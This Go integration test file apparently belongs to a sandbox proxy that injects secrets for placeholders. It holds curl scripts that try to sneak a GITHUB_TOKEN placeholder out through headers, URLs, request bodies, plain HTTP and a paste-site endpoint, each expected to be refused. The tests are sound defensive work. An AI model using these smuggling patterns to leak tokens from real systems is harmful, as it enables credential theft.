package integration

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tunwall/tunwall/internal/audit"
)

// Where a secret may go (issue 20, properties 2 and 3; issue 21, a
// placeholder of an earlier run). The attacker is a sandboxed client
// that holds only the placeholder and wants the value back, or on the
// wire in cleartext.

// credsTry is a shell function for the sandbox: `try NAME CURL-ARGS...`
// prints "NAME: STATUS BODY" (the body's first 400 bytes, one line).
const credsTry = `
P="$GITHUB_TOKEN"
try() { name=$1; shift; rm -f /tmp/body.$$; code=$(curl -sS -o /tmp/body.$$ -w '%{http_code}' --max-time 10 "$@" 2>/tmp/err.$$); echo "$name: $code $(head -c 400 /tmp/body.$$ 2>/dev/null | tr '\n' ' ') $(head -c 200 /tmp/err.$$)"; }
`

// TestAPlaceholderOutsideTheCredentialHeadersIsRefused: api.creds.test
// receives GITHUB_TOKEN (plain form) and has a /profile page that stores
// the User-Agent, Referer, Cookie and X- headers of every request and
// shows them to later ones, as a profile page, a log viewer or an issue
// body does. curl in the sandbox puts the placeholder into those headers,
// the URL and a body: each request is refused (403, recorded) and the
// value never reaches the server, so a later request without a
// placeholder (whose response nothing masks) cannot show it. Authorization
// (Bearer and Basic) still works.
func TestAPlaceholderOutsideTheCredentialHeadersIsRefused(t *testing.T) {
	requireTools(t, "curl")
	cw := newCredsWorld(t, 0)
	script := credsTry + `
try ua          https://api.creds.test/profile -A "tool/1.0 ($P)"
try ua-h2       --http2 https://api.creds.test/profile -A "$P"
try referer     https://api.creds.test/profile -e "https://example.test/?t=$P"
try x-header    https://api.creds.test/profile -H "X-Anything: $P"
try x-basic     https://api.creds.test/profile -H "X-Auth: Basic $(printf 'u:%s' "$P" | base64 -w0)"
try cookie      https://api.creds.test/profile -H "Cookie: s=$P"
try url         "https://api.creds.test/profile?t=$P"
try body        https://api.creds.test/repos/acme/widget/pulls -d "{\"title\":\"$P\"}"
try auth        https://api.creds.test/repos/acme/widget -H "Authorization: Bearer $P"
try basic       "https://git.creds.test/repo.git/info/refs?service=git-upload-pack" -u "x-access-token:$P"
try show        https://api.creds.test/profile
`
	r := cw.run(runOpts{script: script})
	if r.code != 0 {
		t.Fatalf("the sandbox failed\n%s", r)
	}
	t.Logf("attempts:\n%s", r.stdout)
	noValue(t, "the sandbox's output", r.stdout)
	noValueAnywhere(t, r)
	for _, c := range []struct{ name, where string }{
		{"ua", "the User-Agent header"},
		{"ua-h2", "the User-Agent header"},
		{"referer", "the Referer header"},
		{"x-header", "the X-Anything header"},
		{"x-basic", "the X-Auth header"},
		{"cookie", "the Cookie header"},
		{"url", "the URL"},
		{"body", "the request body"},
	} {
		line := lineStarting(r.stdout, c.name+":")
		want := "credential placeholder GITHUB_TOKEN in " + c.where + " of a request to api.creds.test"
		if !strings.HasPrefix(line, c.name+": 403 ") || !strings.Contains(line, want) {
			t.Errorf("%s: %q, want 403 saying %q", c.name, line, want)
		}
	}
	if l := lineStarting(r.stdout, "auth:"); !strings.HasPrefix(l, "auth: 200 api: hello") {
		t.Errorf("Authorization: Bearer no longer works: %q", l)
	}
	if l := lineStarting(r.stdout, "basic:"); !strings.HasPrefix(l, "basic: 200 ") {
		t.Errorf("Authorization: Basic no longer works: %q", l)
	}
	if l := lineStarting(r.stdout, "show:"); !strings.HasPrefix(l, "show: 200 profile:") {
		t.Errorf("the profile page: %q", l)
	}
	for _, g := range append(cw.creds.Got("profile"), cw.creds.Got("api")...) {
		if strings.Contains(g, credsToken) {
			t.Errorf("api.creds.test stored the value: %q", strings.ReplaceAll(g, credsToken, "<value>"))
		}
	}
	denied := 0
	for _, rec := range httpRecords(t, r.audit) {
		if rec.Verdict == audit.VerdictDeny && rec.Rule == "credential-placeholder" && rec.Status == 403 && rec.Host == "api.creds.test" {
			denied++
		}
	}
	if denied != 8 {
		t.Errorf("%d credential-placeholder denials recorded for api.creds.test, want 8", denied)
	}
	if !strings.Contains(r.stderr, "credential placeholder GITHUB_TOKEN in the User-Agent header of a request to api.creds.test") {
		t.Errorf("stderr does not say so\n%s", r.stderr)
	}
}

// TestASecretNeverCrossesPlainHTTP: a rule that injects and allows port 80
// lets the sandbox choose http://. curl sends the placeholder over plain
// HTTP, in Bearer and Basic credentials: refused with a 403 that says
// why, and the server (which listens on port 80) never gets the value. An
// explicit-form rule, which sets its header whether or not the client sent
// a placeholder, sets nothing on a plain request either.
func TestASecretNeverCrossesPlainHTTP(t *testing.T) {
	requireTools(t, "curl")
	cw := newCredsWorld(t, 0)
	script := credsTry + `
try plain       http://api.creds.test/plain -H "Authorization: Bearer $P"
try plain-basic http://api.creds.test/plain-basic -u "x-access-token:$P"
try tls         https://api.creds.test/tls -H "Authorization: Bearer $P"
`
	r := cw.run(runOpts{script: script})
	if r.code != 0 {
		t.Fatalf("the sandbox failed\n%s", r)
	}
	t.Logf("attempts:\n%s", r.stdout)
	noValueAnywhere(t, r)
	for _, name := range []string{"plain", "plain-basic"} {
		l := lineStarting(r.stdout, name+":")
		if !strings.HasPrefix(l, name+": 403 ") || !strings.Contains(l, "credential placeholder GITHUB_TOKEN in a plain HTTP request to api.creds.test") ||
			!strings.Contains(l, "only over TLS") {
			t.Errorf("%s: %q, want a 403 saying secrets go only over TLS", name, l)
		}
	}
	if l := lineStarting(r.stdout, "tls:"); !strings.HasPrefix(l, "tls: 200 api: hello") {
		t.Errorf("over TLS: %q", l)
	}
	got, auths := cw.creds.Got("api"), cw.creds.Auths("api")
	for i, g := range got {
		if strings.Contains(g, "/plain") {
			t.Errorf("a plain HTTP request reached the server: %q (with Authorization: %v)", g, auths[i] != "")
		}
		if strings.Contains(auths[i], credsToken) && !strings.Contains(g, "/tls") {
			t.Errorf("the value reached the server on %q", g)
		}
	}
	var plainDenied int
	for _, rec := range httpRecords(t, r.audit) {
		if rec.Verdict == audit.VerdictDeny && rec.Rule == "credential-placeholder" && strings.HasPrefix(rec.Path, "/plain") {
			plainDenied++
		}
	}
	if plainDenied != 2 {
		t.Errorf("%d plain HTTP requests recorded as refused, want 2", plainDenied)
	}

	// The explicit form over plain HTTP: no placeholder, nothing set.
	pol := filepath.Join(cw.dir, "explicit.yaml")
	if err := os.WriteFile(pol, []byte(`version: 1
secrets:
  GITHUB_TOKEN: {env: TW_TEST_GITHUB_TOKEN}
phases:
  exec:
    allow:
      - host: api.creds.test
        ports: [80, 443]
        inject: [{secret: GITHUB_TOKEN, header: Authorization, value: "token {}"}]
`), 0o644); err != nil {
		t.Fatal(err)
	}
	before := len(cw.creds.Got("api"))
	r = cw.world.run(runOpts{flags: []string{"--policy", pol}, env: []string{"TW_TEST_GITHUB_TOKEN=" + credsToken}, script: credsTry + `
try explicit-plain http://api.creds.test/explicit-plain
try explicit-tls   https://api.creds.test/explicit-tls
`})
	if r.code != 0 {
		t.Fatalf("the sandbox failed\n%s", r)
	}
	t.Logf("attempts:\n%s", r.stdout)
	noValueAnywhere(t, r)
	if l := lineStarting(r.stdout, "explicit-tls:"); !strings.HasPrefix(l, "explicit-tls: 200 api: hello") {
		t.Errorf("the explicit form over TLS: %q", l)
	}
	got, auths = cw.creds.Got("api")[before:], cw.creds.Auths("api")[before:]
	for i, g := range got {
		if strings.Contains(g, "/explicit-plain") && auths[i] != "" {
			t.Errorf("the explicit form set Authorization on plain HTTP (value sent: %v)", strings.Contains(auths[i], credsToken))
		}
	}
	var noted bool
	for _, rec := range httpRecords(t, r.audit) {
		if rec.Path == "/explicit-plain" && rec.Secrets == "" && strings.Contains(rec.Reason, "GITHUB_TOKEN not injected: plain HTTP") {
			noted = true
		}
	}
	if !noted {
		t.Errorf("no record says GITHUB_TOKEN was not injected into the plain request\n%s", r)
	}
}

// TestAPlaceholderOfAnEarlierRunIsRefusedAndSaid: a remote URL saved in
// an earlier run holds that run's placeholder, which is not this run's.
// git clone with it, and curl with it in Authorization (and to a host that
// receives no secret), are refused as stray placeholders, and the 403 (git
// shows it as "remote: ...") and tunwall's stderr say it is a
// placeholder of GITHUB_TOKEN from an earlier run.
func TestAPlaceholderOfAnEarlierRunIsRefusedAndSaid(t *testing.T) {
	requireTools(t, "curl", "git")
	cw := newCredsWorld(t, 0)
	old := "twp_GITHUB_TOKEN_" + strings.Repeat("0123456789abcdef", 2)
	script := credsTry + `
OLD=` + old + `
export GIT_CONFIG_NOSYSTEM=1 GIT_TERMINAL_PROMPT=0 HOME=$(mktemp -d)
cd "$HOME"
git clone -q "https://x-access-token:$OLD@git.creds.test/repo.git" clone 2>&1
echo "clone exit $?"
try old-bearer https://api.creds.test/repos/acme/widget -H "Authorization: Bearer $OLD"
try old-paste  https://paste.creds.test/gists -d "token=$OLD"
try current    https://api.creds.test/repos/acme/widget -H "Authorization: Bearer $P"
`
	r := cw.run(runOpts{script: script})
	if r.code != 0 {
		t.Fatalf("the sandbox failed\n%s", r)
	}
	t.Logf("the sandbox's output:\n%s", r.stdout)
	noValueAnywhere(t, r)
	const said = "placeholder of GITHUB_TOKEN from an earlier run"
	if strings.Contains(r.stdout, "clone exit 0") || !strings.Contains(r.stdout, "remote: tunwall: ") || !strings.Contains(r.stdout, said) {
		t.Errorf("git clone with an earlier run's placeholder: git does not show %q\n%s", said, r.stdout)
	}
	for _, name := range []string{"old-bearer", "old-paste"} {
		if l := lineStarting(r.stdout, name+":"); !strings.HasPrefix(l, name+": 403 ") || !strings.Contains(l, said) {
			t.Errorf("%s: %q, want a 403 saying %q", name, l, said)
		}
	}
	if l := lineStarting(r.stdout, "current:"); !strings.HasPrefix(l, "current: 200 ") {
		t.Errorf("this run's placeholder: %q", l)
	}
	if n := strings.Count(r.stderr, said); n < 3 {
		t.Errorf("stderr says %q %d times, want 3 or more\n%s", said, n, r.stderr)
	}
	// Only the request with this run's placeholder reached a server with
	// credentials (git asks without any first, and is told 401).
	for _, a := range cw.creds.Auths("git") {
		if a != "" {
			t.Errorf("the git server got credentials")
		}
	}
	if n := len(cw.creds.Got("paste")); n != 0 {
		t.Errorf("paste got %d requests, want none: %q", n, cw.creds.Got("paste"))
	}
	if auths := cw.creds.Auths("api"); len(auths) != 1 || auths[0] != "Bearer "+credsToken {
		t.Errorf("the API got %d requests, want 1 (this run's placeholder, injected)", len(auths))
	}
	var recorded int
	for _, rec := range httpRecords(t, r.audit) {
		if rec.Verdict == audit.VerdictDeny && rec.Rule == "credential-placeholder" && strings.Contains(rec.Reason, said) {
			recorded++
		}
	}
	if recorded < 3 {
		t.Errorf("%d records say %q, want 3 or more", recorded, said)
	}
}
